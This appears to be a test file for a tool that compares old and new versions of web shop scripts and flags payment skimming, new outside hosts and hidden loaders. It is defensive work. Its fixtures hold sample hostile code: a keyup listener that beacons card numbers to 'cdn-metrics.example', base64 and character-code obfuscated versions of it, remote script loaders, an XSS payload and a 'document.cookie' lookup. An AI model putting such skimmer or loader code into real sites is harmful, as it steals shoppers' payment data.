// Verdicts on changed scripts: silent about noise, loud about theft.

import type { ChangeReason } from '@tillwatch/contract/reasons'
import { sayReason } from '@tillwatch/messages/changes'
import { assert, constantFrom, integer, property } from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type CompareGiven, type ContentKnowledge, compareScripts } from '#changes/index.ts'
import { judgeScript } from '#detection/index.ts'

const form = `var field = document.querySelector('#email');
field.addEventListener('change', function () {
  fetch('https://stats.shop.example/steps', { method: 'POST', body: JSON.stringify({ step: 'email' }) });
});`
const thief = `document.querySelector('#cc-number').addEventListener('keyup', function (e) {
  navigator.sendBeacon('https://cdn-metrics.example/c', e.target.value);
});`
const library = Array.from({ length: 60 }, (_, index) => `function part${index}(a, b) {\n  return a.width${index} + b * ${index};\n}`).join(
  '\n',
)

const known = (given: Partial<ContentKnowledge>): ContentKnowledge => ({
  release: null,
  contentAccounts: 0,
  addressAccounts: 0,
  deploy: null,
  authorized: false,
  ...given,
})
const published = known({ release: { library: 'parts', version: '1.0.1' }, contentAccounts: 9 })

const verdict = (before: string, after: string, given?: CompareGiven) => compareScripts(before, after, given).verdict
const codes = (before: string, after: string, given?: CompareGiven) => compareScripts(before, after, given).reasons.map(({ code }) => code)

describe('noise', () => {
  it('of the same content is no change', () => {
    expect(compareScripts(form, form)).toMatchObject({ verdict: null, reasons: [], lines: [], masked: [] })
  })

  it.each([
    ['a nonce', 's.nonce = "dVdSUHRCSUljaVBIS3JCbQ=="', 's.nonce = "YVBFeGZCUWFONGY5OTltaA=="'],
    ['a token', 'var csrf = "9f2c4e1ab07d33aa"', 'var csrf = "01bc8dd2e9f07a64"'],
    ['an id', 'v("4d1f0b6e-9a51-4d4e-8f5e-0c6d9d4b1a77")', 'v("0a7c6f52-3b2f-4a1d-9c11-7fb0e6a5d210")'],
    ['a time', 'var t = 1764000000123', 'var t = 1764003600456'],
    ['a date', 'd("2026-11-22T21:10:11Z")', 'd("2026-11-23T08:00:59Z")'],
    ['a hash in an address', 'i("/static/app.3f2a9c1b.js")', 'i("/static/app.77d0e4aa.js")'],
    [
      'a cart',
      'cart = [{"sku":"A1","name":"Mug","n":1}]',
      'cart = [{"sku":"B7","name":"Blue shirt","n":2},{"sku":"C2","name":"Socks","n":1}]',
    ],
    ['JSON', '{"cart":{"items":[]},"user":"guest"}', '{"cart":{"items":[{"name":"Mug"}]},"user":"ann"}'],
    ['JSON in a text', 's(JSON.parse("{\\"n\\":1,\\"w\\":\\"Mug\\"}"))', 's(JSON.parse("{\\"n\\":22,\\"w\\":\\"Cap\\"}"))'],
  ])('goes into the digest once, and is volatile if several contents showed it: %s', (_, before, after) => {
    expect(compareScripts(before, after)).toMatchObject({
      verdict: 'rebuild',
      reasons: [{ code: 'data-changed-once', given: { places: 1 } }],
    })
    expect(verdict(before, after, { history: [before] })).toBe('rebuild')
    expect(verdict(before, after, { history: [after] })).toBe('volatile')
  })

  it('is kept and shown, with its line', () => {
    const { masked } = compareScripts('f();\nvar csrf = "9f2c4e1ab07d33aa"', 'f();\nvar csrf = "01bc8dd2e9f07a64"')
    expect(masked).toEqual([{ before: '9f2c4e1ab07d33aa', after: '01bc8dd2e9f07a64', lines: { before: [2, 2], after: [2, 2] } }])
  })

  it('is learned from earlier contents if the text does not show it', () => {
    const text = (word: string) => `greet("${word}", "fixed")`
    expect(verdict(text('ann'), text('bob'))).toBe('capability')
    expect(verdict(text('ann'), text('bob'), { history: [text('joe'), text('sue')] })).toBe('volatile')
    expect(verdict(text('ann'), 'greet("ann", "other")', { history: [text('joe'), text('sue')] })).toBe('capability')
  })

  it.each([
    ['other names', 'function f(a) { return a.b(1) } f(x)', 'function g(c) { return c.b(1) } g(x)'],
    ['layout', form, form.replace(/\n\s*/g, ' ')],
    ['another order', 'function a() { x.b("t") } function c() { y.d() }', 'function c() { y.d() } function a() { x.b("t") }'],
    ['another spelling', 'if (a) { x.b(); y.c() } else z.d()', 'a ? (x.b(), y.c()) : z.d()'],
  ])('is a rebuild: %s', (_, before, after) => {
    expect(verdict(before, after)).toBe('rebuild')
  })

  it('with new hashes of the files that it loads is not news; the name of another file is', () => {
    const loads = (cart: string, money: string) => `const deps=["assets/${cart}.js","assets/${money}.js"];import("./${cart}.js");go(deps)`
    const before = loads('cart-KestRelo', 'money-Bx1zQkWm')
    expect(verdict(before, loads('cart-Dh1qRtzP', 'money-BoldPine'))).toBe('rebuild')
    expect(verdict(before, loads('cart-Dh1qRtzP', 'collect-Bx1zQkWm'))).toBe('capability')
    expect(verdict(before, loads('collect-Dh1qRtzP', 'money-Bx1zQkWm'))).toBe('capability')
    expect(verdict('send("https://s3.amazonaws.com/payments2024/collect")', 'send("https://s3.amazonaws.com/8f3a9c1b2d/collect")')).toBe(
      'capability',
    )
    expect(verdict('send("/pay-KestRelo/collect")', 'send("/pay-Bx1zQkWm/collect")')).toBe('capability')
    expect(verdict('a.src = "/gtm.js?id=" + i', 'a.src = "/gtm-beta.js?id=" + i')).toBe('capability')
  })

  it('a new timer with an unknown function in another build of a program is not news, a new flow is', () => {
    const send = (what: string) =>
      `function a(f) { var safe = document.querySelector("#q").value, own = document.querySelector("#card-number").value; s("https://stats.example/?" + ${what}) } function s(u) { new Image().src = u }`
    expect(verdict(send('safe'), send('own'))).toBe('malicious')
    expect(verdict('x.b(1); setTimeout(y)', 'setTimeout(y); x.b(1)')).toBe('rebuild')
  })

  it.each([
    ['a text', 'x.b(); y.c("t")', 'y.c("t"); x.b("and more")'],
    ['a property', 'x.b(); y.c()', 'y.c(); x.b().e'],
    ['a global', 'x.b(); y.c()', 'y.c(); x.b(zzz)'],
  ])('is not a rebuild once %s was added', (_, before, after) => {
    expect(verdict(before, after)).toBe('release')
  })

  it('a version of a library that only does more ordinary things is a release', () => {
    const next = `${library.replace('a.width7', 'a.height7')}\nfunction added(node) {\n  node.className = 'is-open';\n}`
    expect(compareScripts(library, next)).toMatchObject({ verdict: 'release', newCapabilities: [] })
    expect(codes(library, next, { knowledge: published })).toContain('library-release')
    expect(codes(library, next, { knowledge: known({ contentAccounts: 3 }) })).toContain('seen-elsewhere')
  })
})

describe('a theft', () => {
  it('that is appended is malicious, with its lines and new capabilities', () => {
    const found = compareScripts(form, `${form}\n${thief}`)
    expect(found.verdict).toBe('malicious')
    expect(found.lines).toEqual([{ before: null, after: [5, 7] }])
    expect(found.newCapabilities.map(({ kind, what }) => `${kind} ${what}`)).toContain('sends card > cdn-metrics.example')
  })

  it('that arrives with a library release is reported, whatever else changed', () => {
    const next = `${library.replace('a.width7', 'a.height7')}\n${thief}`
    const given: CompareGiven = { knowledge: published }
    expect(compareScripts(library, next, given)).toMatchObject({ verdict: 'malicious', lines: [{ after: [181, 183] }] })
  })

  it.each([
    ['base64', `eval(atob("${Buffer.from(thief).toString('base64')}"))`],
    ['character codes', `Function(String.fromCharCode(${[...thief].map((one) => one.charCodeAt(0)).join()}))()`],
  ])('is recognized through %s, at the line that runs it', (_, hidden) => {
    expect(compareScripts(form, `${form}\n${hidden}`)).toMatchObject({ verdict: 'malicious', lines: [{ before: null, after: [5, 5] }] })
  })

  it.each([
    ['the host of an address', 'stats.shop.example', 'stats.shop-cdn.example', 'host-changed', 3],
    ['a selector', '#email', '#card-number', 'selector-changed', 1],
    ['a path', '/steps', '/gather', 'address-changed', 3],
    ['an event', "'change'", "'keyup'", 'text-changed', 2],
  ])('by swapping %s raises an alert at its line', (_, from, to, code, line) => {
    const found = compareScripts(form, form.replace(from, to))
    expect(found.reasons.map((reason) => reason.code)).toContain(code)
    expect(['capability', 'malicious']).toContain(found.verdict)
    expect(found.lines).toContainEqual({ before: [line, line], after: [line, line] })
  })

  it.each([
    ['an object', (host: string) => `window.cfg = { api: "https://${host}/a", n: 1 }`],
    ['a list', (host: string) => `window.hosts = ["https://${host}/a", 2]`],
    ['a JSON text', (host: string) => `start(JSON.parse('{"api":"https://${host}/a"}'))`],
    ['a file of JSON', (host: string) => `{"api":"https://${host}/a"}`],
  ])('by swapping a host in %s raises an alert, reports both hosts, and no release excuses it', (_, text) => {
    const found = compareScripts(text('api.shop.example'), text('evil.example'), { knowledge: published })
    expect(found).toMatchObject({ verdict: 'capability', reasons: [{ code: 'host-changed' }] })
    expect(sayReason(found.reasons[0] as ChangeReason, 'en')).toBe('It now contains evil.example instead of https://api.shop.example/a.')
  })

  it('by swapping an address in character codes raises an alert', () => {
    const text = (host: string) => `fetch(String.fromCharCode(${[...`https://${host}/`].map((one) => one.charCodeAt(0)).join()}))`
    expect(verdict(text('stats.example'), text('thief.example'))).toBe('capability')
  })

  it('by swapping an address that is reversed in base64 raises an alert', () => {
    const text = (host: string) =>
      `fetch(atob("${[...Buffer.from(`https://${host}/`).toString('base64')].reverse().join('')}".split("").reverse().join("")))`
    expect(verdict(text('stats.example'), text('thief.example'))).toBe('capability')
  })

  it('by swapping a host always raises an alert, even at a place known as volatile', () => {
    const host = (number: number, ending: string) => `h${number.toString(36)}.${ending}`
    const text = (name: string) => `load("https://${name}/x.js?v=1"); other(2)`
    const any = [integer({ min: 0, max: 1e9 }), constantFrom('com', 'example', 'ru', 'co.uk', 'cloudfront.net')] as const
    assert(
      property(...any, ...any, (a, x, b, y) => {
        const [before, after] = [text(host(a, x)), text(host(b, y))]
        const history = [text('one.example'), text('two.example')]
        return before === after || verdict(before, after, { history }) === 'capability'
      }),
      { numRuns: 40 },
    )
  })

  it.each([
    ['a host', '{"image":"https://images.shop.example/a.png"}', '{"image":"https://images.shop-cdn.example/a.png"}'],
    ['a hidden host', '{"id":"aGVsbG8gd29ybGQ="}', `{"id":"${Buffer.from('https://cdn-metrics.example/').toString('base64')}"}`],
    ['markup that runs', '{"text":"Hello"}', '{"text":"<img src=x onerror=alert(1)>"}'],
    ['code', '{"text":"Hello"}', '{"text":"document.cookie"}'],
    ['another selector', '{"field":"#email"}', '{"field":"#cc-number"}'],
    ['another account', '{"key":"pk_live_51AbCdEfGhIj"}', '{"key":"pk_live_99ZyXwVuTsRq"}'],
  ])('in data raises an alert: %s', (_, before, after) => {
    expect(verdict(before, after)).toBe('capability')
    expect(verdict(`window.__STATE__ = ${before};`, `window.__STATE__ = ${after};`)).toBe('capability')
  })

  it.each([
    ['a script element', 's = document.createElement("script"); s.src = "https://cdn-metrics.example/a.js"; document.head.append(s)'],
    ['an import', 'import("https://cdn-metrics.example/a.mjs")'],
    ['written markup', 'document.write("<scr" + "ipt src=//cdn-metrics.example/a.js></scr" + "ipt>")'],
    ["the shop's own host", 's = document.createElement("script"); s.src = "/media/stat.js"; document.head.append(s)'],
  ])('by a loader raises an alert: %s', (_, loader) => {
    expect(compareScripts(library, `${library}\n${loader}`)).toMatchObject({ verdict: 'capability', lines: [{ after: [181, 181] }] })
  })
})

describe('knowledge of a content', () => {
  const next = `${library}\nfunction added(node) { node.className = 'is-open' }`

  const alone = known({ authorized: true, addressAccounts: 3 })

  it('marks it as targeted if an authorized third-party address serves it to nobody else', () => {
    expect(compareScripts(library, next, { knowledge: alone, party: 'third' })).toMatchObject({
      verdict: 'targeted',
      reasons: [{ code: 'nobody-else', given: { accounts: 3 } }],
    })
    const less: ContentKnowledge[] = [
      { ...alone, authorized: false },
      { ...alone, addressAccounts: 2 },
      { ...alone, contentAccounts: 1 },
    ]
    for (const knowledge of less) expect(verdict(library, next, { knowledge, party: 'third' })).toBe('release')
    expect(verdict(library, next, { knowledge: alone, party: 'first' })).toBe('release')
  })

  it('does not mark noise, a rebuild, or a published file as targeted', () => {
    expect(verdict('t = "9f2c4e1ab07d33aa"', 't = "01bc8dd2e9f07a64"', { knowledge: alone, party: 'third' })).toBe('rebuild')
    expect(verdict(form, form.replaceAll('field', 'x'), { knowledge: alone, party: 'third' })).toBe('rebuild')
    expect(verdict(library, next, { knowledge: { ...alone, release: published.release }, party: 'third' })).toBe('release')
  })

  it('marks it as a deploy if its hash was announced and it is the site’s own', () => {
    const after = `${form}\nfetch('https://new.shop.example/')`
    const knowledge = known({ deploy: { commit: 'abcdef0123456789', announcedAt: '2026-11-23T08:00:00.000Z' } })
    const { verdict: own, reasons } = compareScripts(form, after, { party: 'first', knowledge })
    expect([own, reasons[0] && sayReason(reasons[0], 'en')]).toEqual([
      'deploy',
      'The file is part of the deploy announced at 2026-11-23 08:00 UTC, commit abcdef012345.',
    ])
    expect(verdict(form, after, { party: 'third', knowledge })).not.toBe('deploy')
  })

  it.each([
    ['the published file of a library', known({ release: { library: 'jquery', version: '3.7.1' } }), 'library-release'],
    ['what three other accounts get', known({ contentAccounts: 3 }), 'seen-elsewhere'],
  ])('marks %s as a release if it only contacts a new host, and does not lower theft or a hidden host', (_, knowledge, code) => {
    const names = `${library}\nfetch('https://docs.lib.example/')`
    expect(verdict(library, names)).toBe('capability')
    expect(compareScripts(library, names, { knowledge })).toMatchObject({
      verdict: 'release',
      reasons: [{ code }, { code: 'new-host' }, { code: 'new-power' }, { code: 'new-contact' }],
    })
    expect(verdict(library, `${library}\n${thief}`, { knowledge })).toBe('malicious')
    const hidden = `${library}\nwindow.a = '${Buffer.from('https://cdn-metrics.example/').toString('base64')}'`
    expect(verdict(library, hidden, { knowledge })).toBe('capability')
  })

  it('ignores general library capabilities only in a published file', () => {
    const runs = `${library}\nwindow.run = function (a) { new Function(atob(a.code))() }; run({ code: 'YWxlcnQoMSk=' })`
    expect(verdict(library, runs)).toBe('capability')
    expect(verdict(library, runs, { knowledge: published })).toBe('release')
    expect(verdict(library, runs, { knowledge: known({ contentAccounts: 9 }) })).toBe('capability')
  })

  it.each([
    `window.docs = 'https://docs.lib.example/'`,
    `throw new Error('See https://docs.lib.example/errors#12 for what to do.')`,
    `var links = { help: 'https://help.lib.example/start', terms: 'https://lib.example/terms' }`,
    `console.warn('This will go. Read //docs.lib.example/upgrade before you update.')`,
    `document.title = 'Powered by https://lib.example'`,
    `element.textContent = 'https://docs.lib.example/'`,
  ])('does not treat a host that is only mentioned as a capability: %s', (added) => {
    expect(verdict(library, `${library}\n${added}`)).toBe('release')
  })

  it.each([
    `var to = 'https://docs.lib.example/'; fetch(to)`,
    `var links = { help: 'https://docs.lib.example/x.js' }; var s = document.createElement('script'); s.src = links[location.hash]; document.head.append(s)`,
    `window.docs = atob('aHR0cHM6Ly9kb2NzLmxpYi5leGFtcGxlLw==')`,
    `var a = 'https://docs.lib.example/'; eval(a.slice(location.length))`,
    `new Image().src = 'https://docs.lib.example/i'`,
  ])('treats a host that the code may contact as a capability: %s', (added) => {
    expect(verdict(library, `${library}\n${added}`)).toBe('capability')
  })

  it('does not report earlier theft', () => {
    const theft = `addEventListener('change', function (e) { fetch('https://pay.other.example/x', { method: 'POST', body: document.querySelector('#cc-number').value }) })`
    const judge = (text: string) => judgeScript(text)
    expect(judgeScript(theft).verdict).toBe('malicious')
    expect(['release', 'rebuild']).toContain(verdict(theft, `${theft}; var shown = true`, { judge }))
    expect(verdict('var shown = true', `${theft}; var shown = true`, { judge })).toBe('malicious')
    expect(verdict(theft, `${theft.replace('pay.other', 'pay.another')}; var shown = true`, { judge })).toBe('malicious')
  })

  it('is silent if only two others receive it', () => {
    const names = `${library}\nfetch('https://docs.lib.example/')`
    expect(verdict(library, names, { knowledge: known({ contentAccounts: 2 }) })).toBe('capability')
  })

  it('does not lower theft because of a deploy', () => {
    const knowledge = known({ deploy: { commit: null, announcedAt: '2026-11-23T08:00:00.000Z' } })
    expect(verdict(form, `${form}\n${thief}`, { party: 'first', knowledge })).toBe('malicious')
  })

  it('silences approved hosts', () => {
    const after = `${form}\nfetch('https://api.partner.example/')`
    expect(verdict(form, after)).toBe('capability')
    expect(verdict(form, after, { approvedHosts: ['api.partner.example'] })).toBe('release')
  })

  it('marks it as malicious if the judgement says so, and raises an alert if it became suspicious', () => {
    const values = { wording: '', names: ['layers'], more: 0, chance: 0.9 }
    const judge = (verdict: 'suspicious' | 'malicious') => (text: string) => ({
      verdict: text === library ? ('benign' as const) : verdict,
      reasons: [{ code: 'model' as const, values }],
    })
    expect(compareScripts(library, next, { judge: judge('malicious') })).toMatchObject({
      verdict: 'malicious',
      reasons: [{ code: 'judged-malicious', given: { reason: 'model', ...values } }],
    })
    expect(verdict(library, next, { judge: judge('suspicious') })).toBe('capability')
  })
})
